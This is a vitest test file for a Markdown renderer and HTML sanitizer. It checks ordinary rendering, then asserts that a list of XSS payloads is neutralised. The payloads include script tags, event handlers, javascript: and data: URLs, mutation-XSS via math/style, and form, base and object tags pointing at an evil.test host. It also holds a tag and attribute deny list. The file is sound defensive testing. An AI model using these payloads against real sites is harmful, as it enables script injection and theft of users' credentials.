// @vitest-environment jsdom
// happy-dom loses nodes while DOMPurify walks them, and would prove nothing.
import { expect, test } from "vitest";
import { MarkdownRenderer } from "../src/markdown/render";
import { Sanitizer } from "../src/markdown/sanitizer";

const renderer = new MarkdownRenderer("http://desk.test");

function html(markdown: string): string {
  const div = document.createElement("div");
  div.append(renderer.render(markdown));
  return div.innerHTML;
}

function elements(markdown: string): Element[] {
  return [...renderer.render(markdown).querySelectorAll("*")];
}

function expectHarmless(elements: Iterable<Element>): void {
  for (const element of elements) {
    expect("SCRIPT IFRAME SVG MATH STYLE FORM INPUT OBJECT EMBED BASE LINK META".split(" ")).not.toContain(
      element.tagName.toUpperCase(),
    );
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^style$|^srcdoc$|^formaction$|^id$|^class$/);
      if (name === "href" || name === "src") expect(value).toMatch(/^(https?:|mailto:|tel:)/);
    }
  }
}

test("steps, emphasis and tables are shown", () => {
  expect(html("一线城市 **650 元**：\n\n1. 打开单据\n2. 选择城市")).toContain("<strong>650 元</strong>");
  expect(html("1. 打开单据\n2. 选择城市")).toMatch(/<ol>\s*<li>打开单据<\/li>/);
  expect(html("| 城市 | 金额 |\n| --- | --- |\n| 北京 | 650 |")).toContain("<td>北京</td>");
});

test("links open in a new tab without a way back, relative ones lead to the desk's server", () => {
  const [link] = elements("[办法](/docs/travel)").filter((element) => element.tagName === "A");
  expect(link!.getAttribute("href")).toBe("http://desk.test/docs/travel");
  expect(link!.getAttribute("target")).toBe("_blank");
  expect(link!.getAttribute("rel")).toContain("noopener");
});

test("a bare address becomes a link that ends before Chinese punctuation", () => {
  const [link] = elements("见 https://example.com/a?b=1。谢谢").filter((element) => element.tagName === "A");
  expect(link!.getAttribute("href")).toBe("https://example.com/a?b=1");
  expect(link!.textContent).toBe("https://example.com/a?b=1");
});

test("entities are decoded", () => {
  expect(html("A &amp; B &copy; &#20070;")).toContain("A &amp; B © 书");
});

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>点我</a>",
  "<a href=' &#1; JaVaScRiPt:alert(1)'>点我</a>",
  "<a href='java&#10;script:alert(1)'>点我</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>点我</a>",
  "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<form action=//evil.test><input name=password autofocus onfocus=alert(1)></form>",
  "<style>*{display:none}</style>",
  "<p style='position:fixed;inset:0'>x</p>",
  "<base href=//evil.test><link rel=stylesheet href=//evil.test/x.css><meta http-equiv=refresh content=0>",
  "<object data=//evil.test></object><embed src=//evil.test>",
  "<p id=title class=panel onclick=alert(1)>x</p>",
];

const MARKDOWN_ATTACKS = [
  "[点我](javascript:alert(1))",
  "[点我](JaVaScRiPt:alert(1))",
  "[点我](java&#115;cript:alert(1))",
  "[点我](data:text/html;base64,PHNjcmlwdD4=)",
  "[点我](vbscript:msgbox(1))",
  "![图](javascript:alert(1))",
  "![图](data:image/svg+xml;base64,PHN2Zz4=)",
  '[点我](http://a.test "x\\" onmouseover=alert(1) y=\\"")',
  '![x](x" onerror="alert(1))',
  "<javascript:alert(1)>",
  "javascript:alert(1)",
];

test.each([...ATTACKS, ...MARKDOWN_ATTACKS])("nothing of %s runs", (attack) => {
  expectHarmless(elements(attack));
});

test.each(ATTACKS)("nothing of %s passes the sanitizer either, were it not written as text", (attack) => {
  expectHarmless(new Sanitizer("http://desk.test").clean(attack).querySelectorAll("*"));
});

test("HTML that somebody typed is shown as they typed it", () => {
  expect(renderer.render("<b>加粗</b>").textContent).toBe("<b>加粗</b>\n");
});
